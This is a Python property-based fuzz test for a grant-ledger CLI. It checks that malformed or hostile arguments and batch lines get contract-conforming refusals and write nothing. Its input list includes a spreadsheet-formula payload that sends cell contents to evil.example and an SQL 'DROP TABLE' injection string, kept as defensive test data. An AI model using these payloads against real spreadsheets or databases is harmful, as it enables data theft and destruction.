"""Property: whatever the command line or a batch line holds, the answer follows the output contract.

For any input: no traceback; an exit code from cli.md's table; a refusal is one ``error[CODE]: message``
line on stderr (or, with ``--format json``, one JSON document on stdout and nothing on stderr); and a
refusal leaves the head of the hash chain where it was. A batch answers with one summary whatever its
lines hold, and a batch that applied nothing wrote nothing.

CI runs a modest number of examples per engine (well under a minute); ``GRANTLEDGER_FUZZ=long`` runs many
more (``GRANTLEDGER_FUZZ=N`` exactly N per test).
"""

from __future__ import annotations

import json
import os
import re
import uuid

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import create_engine, text

from cli.main import main
from tests.conftest import ENGINES
from tests.e2e.driver import Cli, awarded, describe, standard_world
from tests.helpers import ENTERPRISE
from tests.pgserver import create_database, drop_database

FUZZ = os.environ.get("GRANTLEDGER_FUZZ", "")
EXAMPLES = int(FUZZ) if FUZZ.isdigit() else 1500 if FUZZ == "long" else 40
FUZZ_SETTINGS = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=not FUZZ,  # CI sees the same examples every run; a long run explores
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
EXIT_CODES = {0, 1, 2, 3, 4, 5}
ERROR_LINE = re.compile(r"error\[[A-Z_]+\]: .*")

SPECIAL = [
    "",
    " ",
    "\udfff",  # a lone surrogate
    "adm\udcffin",  # what Python makes of the byte \xff in an argument
    "\udcff",
    "²",
    "①",
    "⑴",
    "½",
    "٣",
    "１２",
    "２０２４-０９-０１",
    "9" * 4400,
    "1" * 20_000,
    "-1",
    "0",
    "1e9",
    "NaN",
    "50万",
    "1.001",
    "0.001万",
    "1,000,000.50",
    "99999999999999999999亿",
    "2024-02-30",
    "2999-01-01",
    "line\nbreak",
    "tab\there",
    "\x00",
    "\u202e",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "'; DROP TABLE stored_events; --",
    "QD-1",
    "KJ",
    ENTERPRISE,
    "qd2024-01-common-tech",
    "--help",
    "--format",
    "-",
]
hostile = st.one_of(
    st.sampled_from(SPECIAL),
    st.text(max_size=40),
    st.text(st.characters(categories=["Cs", "Nd", "No", "Cc", "Zs", "Lo"]), max_size=20),
)

TEMPLATES = [
    ["fund", "create", "{}", "--name", "{}"],
    ["fund", "create", "F-{}", "--name", "{}", "--approval-threshold", "{}"],
    ["fund", "appropriate", "KJ", "--year", "{}", "--amount", "{}", "--doc", "{}", "--date", "{}"],
    ["unit", "register", "{}", "--name", "{}", "--type", "{}"],
    ["apply", "{}", "--unit", "{}", "--clause", "{}", "--amount", "{}", "--date", "{}"],
    ["evaluate", "{}", "--grade", "{}", "--score", "{}"],
    ["award", "QD-1", "--amount", "{}", "--fund", "{}", "--doc", "{}"],
    ["disburse", "QD-1", "--amount", "{}", "--voucher", "{}", "--date", "{}"],
    ["disburse", "{}", "--amount", "1万", "--voucher", "{}"],
    ["spend", "QD-1", "--amount", "{}", "--category", "{}", "--voucher", "{}"],
    ["approve", "{}"],
    ["void", "{}", "--reason", "{}"],
    ["reverse", "{}", "--reason", "{}"],
    ["recover", "QD-1", "--amount", "{}", "--voucher", "{}", "--reason", "{}"],
    ["invest", "{}", "--amount", "{}", "--stake", "{}", "--valuation", "{}", "--voucher", "{}"],
    ["exit", "{}", "--stake", "{}", "--proceeds", "{}", "--voucher", "{}"],
    ["role", "grant", "{}", "{}"],
    ["history", "{}"],
    ["report", "{}"],
    ["report", "awards", "--year", "{}"],
    ["policy", "quote", "{}", "--unit", "{}", "--grade", "{}"],
    ["policy", "show", "{}"],
]


@pytest.fixture(scope="module", params=ENGINES)
def fuzz_cli(request, tmp_path_factory):
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path_factory.mktemp('fuzz')}/ledger.db"
    else:
        admin = request.getfixturevalue("pg_admin_url")
        name = f"fuzz_{uuid.uuid4().hex[:12]}"
        url = create_database(admin, name)
        request.addfinalizer(lambda: drop_database(admin, name))
    cli = standard_world(Cli(url))
    awarded(cli, "QD-1", "qd2024-01-common-tech", "300万")
    engine = create_engine(url)
    request.addfinalizer(engine.dispose)
    cli.head = lambda: _head(engine)  # type: ignore[attr-defined]
    return cli


def _head(engine) -> tuple:
    with engine.connect() as conn:
        row = conn.execute(text("SELECT notification_id, hash FROM event_hashes ORDER BY 1 DESC LIMIT 1")).one()
        return row[0], bytes(row[1])


def check_refusal_contract(result, fmt: str) -> None:
    assert result.exit_code in EXIT_CODES, describe(result)
    if result.exit_code == 0:
        return
    if fmt == "json":
        assert result.stderr == "", describe(result)
        document = json.loads(result.stdout)  # exactly one document: a second would be 'Extra data'
        assert set(document) == {"error"} and set(document["error"]) == {"code", "message"}, describe(result)
    else:
        lines = result.stderr.splitlines()
        assert len(lines) == 1 and ERROR_LINE.fullmatch(lines[0]), describe(result)
        assert result.stdout == "", describe(result)


@FUZZ_SETTINGS
@given(template=st.sampled_from(TEMPLATES), data=st.data(), fmt=st.sampled_from(["table", "json"]))
def test_any_command_line_gets_a_contract_answer_and_a_refusal_writes_nothing(fuzz_cli, template, data, fmt):
    args = [part.replace("{}", data.draw(hostile)) if "{}" in part else part for part in template]
    before = fuzz_cli.head()
    result = fuzz_cli(*args, fmt=fmt, actor=data.draw(st.sampled_from(["admin", "clerk", "auditor", "x\udcff"])))
    check_refusal_contract(result, fmt)
    if result.exit_code != 0:
        assert fuzz_cli.head() == before, f"{args} was refused but the head moved\n{describe(result)}"


@FUZZ_SETTINGS
@given(args=st.lists(hostile, max_size=6), fmt=st.sampled_from(["table", "json"]))
def test_any_argument_list_gets_a_contract_answer(fuzz_cli, args, fmt):
    if args and args[0] in ("demo", "init", "batch", "serve"):
        args = args[1:]
    before = fuzz_cli.head()
    result = fuzz_cli(*args, fmt=fmt)
    assert result.exit_code in EXIT_CODES, describe(result)
    if result.exit_code != 0:
        check_refusal_contract(result, fmt)
        assert fuzz_cli.head() == before, describe(result)


def _line(draw_value, template: dict) -> str:
    return json.dumps({k: (draw_value() if v is None else v) for k, v in template.items()}, ensure_ascii=False)


LINE_TEMPLATES = [
    {"cmd": "disburse", "ref": "QD-1", "amount": None, "voucher": None, "date": None},
    {"cmd": "fund-appropriate", "fund": "KJ", "year": None, "amount": None, "doc": None},
    {"cmd": "fund-create", "fund": None, "name": None},
    {"cmd": None, "ref": None},
    {"cmd": "apply", "ref": None, "unit": None, "clause": "qd2024-01-common-tech", "amount": None},
]
json_value = st.one_of(
    hostile,
    st.integers(min_value=-(10**30), max_value=10**30),
    st.none(),
    st.booleans(),
    st.lists(st.integers(), max_size=3),
)
raw_line = st.one_of(
    st.binary(max_size=60),
    st.sampled_from(
        [
            b'{"cmd": "disburse", "ref": "QD-1", "amount": "\\udfff", "voucher": "V"}',
            b"[" * 5000 + b"]" * 5000,
            b'{"cmd": "fund-appropriate", "fund": "KJ", "year": ' + b"9" * 4400 + b', "amount": "1", "doc": "D"}',
            b'{"cmd": "disburse", "ref": "QD-1", "amount": ' + b"1" * 50_000 + b', "voucher": "V"}',
            b'{"cmd": "fund-create", "fund": "K\xff", "name": "x"}',
            b"\xef\xbb\xbf{}",
            b"null",
            b'{"cmd": "init"}',
        ]
    ),
)


@FUZZ_SETTINGS
@given(data=st.data(), fmt=st.sampled_from(["table", "json"]))
def test_any_batch_gets_one_summary_every_refused_line_numbered_and_nothing_applied_means_nothing_written(
    fuzz_cli, data, fmt
):
    count = data.draw(st.integers(min_value=1, max_value=6))
    lines: list[bytes] = []
    for _ in range(count):
        if data.draw(st.booleans()):
            template = data.draw(st.sampled_from(LINE_TEMPLATES))
            lines.append(_line(lambda: data.draw(json_value), template).encode("utf-8", "surrogatepass"))
        else:
            lines.append(data.draw(raw_line).replace(b"\n", b" ").replace(b"\r", b" "))
    before = fuzz_cli.head()
    result = fuzz_cli.runner.invoke(
        main,
        ["--db", fuzz_cli.db, "--actor", "admin", "--format", fmt, "batch", "-"],
        input=b"\n".join(lines) + b"\n",
    )
    assert result.exit_code in (0, 1), describe(result)
    if fmt == "json":
        summary = json.loads(result.stdout)
        assert summary["failed"] == len(summary["errors"]), describe(result)
        assert all(1 <= e["line"] <= count for e in summary["errors"]), describe(result)
        applied, failed = summary["applied"], summary["failed"]
    else:
        refusals = [line for line in result.stderr.splitlines() if line.startswith("第 ")]
        assert all(re.fullmatch(r"第 \d+ 行: error\[[A-Z_]+\]: .*", line) for line in refusals), describe(result)
        applied = int(re.search(r"已执行\s+(\d+)", result.stdout).group(1))
        failed = int(re.search(r"被拒绝\s+(\d+)", result.stdout).group(1))
        assert failed == len(refusals), describe(result)
    assert result.exit_code == (1 if failed else 0), describe(result)
    if applied == 0:
        assert fuzz_cli.head() == before, describe(result)
